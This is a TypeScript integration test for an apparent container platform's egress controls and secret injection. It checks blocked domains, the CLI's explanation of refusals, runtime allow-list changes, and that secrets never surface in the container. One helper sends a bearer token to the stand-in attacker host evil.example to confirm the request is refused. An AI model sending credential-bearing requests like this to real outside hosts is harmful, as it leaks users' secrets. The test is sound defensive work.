import { execFile, execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { run } from '../../src/cli/run.ts'
import { FakeTerminal } from '../../src/testing/fake-terminal.ts'
import { hostsOutside } from '../tools/outside-hosts.ts'
import { NAME_SERVER, outsideWorld, type Seen } from '../tools/outside-world.ts'
import { Shadow } from '../tools/shadow.ts'

const SECRET = 'sk-planted-0815'
const files = mkdtempSync(join(tmpdir(), 'shadow-egress-'))
let world: AsyncDisposable
let shadow: Shadow

beforeAll(async () => {
  const hosts = await hostsOutside()
  world = await outsideWorld(hosts)
  writeFileSync(`${files}/ca.pem`, hosts.ca)
  const env = { SHADOW_EGRESS_NAME_SERVERS: NAME_SERVER, SHADOW_EGRESS_CA: `${files}/ca.pem`, SHADOW_EGRESS: 'on' }
  shadow = await Shadow.start({ env })
})
afterAll(async () => {
  await shadow?.[Symbol.asyncDispose]()
  await world?.[Symbol.asyncDispose]()
  rmSync(files, { recursive: true })
})

/** Types a line of the CLI; resolves with what is printed. */
async function type(line: string, answers: string[] = []): Promise<string> {
  const { masterUrl, adminToken } = shadow.up
  const terminal = new FakeTerminal({ env: { SHADOW_URL: masterUrl, SHADOW_TOKEN: adminToken }, answers })
  const exit = await run(line.split(' '), terminal)
  const printed = terminal.stdout + terminal.stderr
  expect(exit, printed).toBe(0)
  expect(printed).not.toContain(SECRET)
  return printed
}

/** Fetches the URL from inside of the app: the status with what the host saw, or the error. */
async function fetched(url: string): Promise<{ status?: number; seen?: Seen; error?: string }> {
  const script = `fetch('${url}', { headers: { authorization: 'Bearer ' + process.env.API_KEY } })
    .then(async r => ({ status: r.status, seen: r.ok ? await r.json() : undefined }), e => ({ error: e.cause?.code ?? String(e) }))
    .then(r => console.log(JSON.stringify(r)))`
  const [id = ''] = await shadow.containers('blog')
  return JSON.parse((await promisify(execFile)('docker', ['exec', id, 'node', '-e', script])).stdout)
}

test('an app is kept to domains, told by why, changed while it runs, and given a secret that it does not have', async () => {
  await shadow.register('blog', { egress: ['api.corp.example'] as never })
  await shadow.wake('blog')
  const [before] = await shadow.containers('blog')
  expect(await fetched('http://api.corp.example/')).toMatchObject({ status: 200 })
  expect(await fetched('http://evil.example/')).toEqual({ error: 'ENOTFOUND' })

  const why = await type('why blog')
  expect(why).toMatch(/Egress to evil\.example was refused at .*: its egress does not name it\./)
  expect(why).toContain('To allow evil.example: shadow egress add blog evil.example')
  await shadow.untilLogged('blog', /evil\.example was refused to this app/)

  await type('egress add blog evil.example')
  expect(await fetched('http://evil.example/')).toMatchObject({ status: 200 })
  await type('egress rm blog evil.example')
  expect(await fetched('http://evil.example/')).toEqual({ error: 'ENOTFOUND' })
  expect(await shadow.containers('blog')).toEqual([before])

  await type('secrets set blog API_KEY --wire api.corp.example', [SECRET])
  for (const scheme of ['http', 'https']) {
    const { status, seen } = await fetched(`${scheme}://api.corp.example/`)
    expect([status, seen?.headers['authorization']]).toEqual([200, `Bearer ${SECRET}`])
  }
  const [wired = ''] = await shadow.containers('blog')
  expect(execFileSync('docker', ['inspect', wired], { encoding: 'utf8' })).not.toContain(SECRET)
  expect(execFileSync('docker', ['exec', wired, 'env'], { encoding: 'utf8' })).toContain('API_KEY=added-by-shadow')
  expect(await type('status blog')).toContain('API_KEY to api.corp.example (Authorization)')

  // The node is started again while the app runs on.
  await shadow.stop()
  await shadow.startAgain()
  await shadow.wake('blog')
  expect((await fetched('https://api.corp.example/')).seen?.headers['authorization']).toBe(`Bearer ${SECRET}`)
  expect(await fetched('http://evil.example/')).toEqual({ error: 'ENOTFOUND' })
  expect(execFileSync('/bin/sh', ['-c', `grep -rl ${SECRET} ${shadow.data} || true`], { encoding: 'utf8' })).toBe('')
}, 240_000)
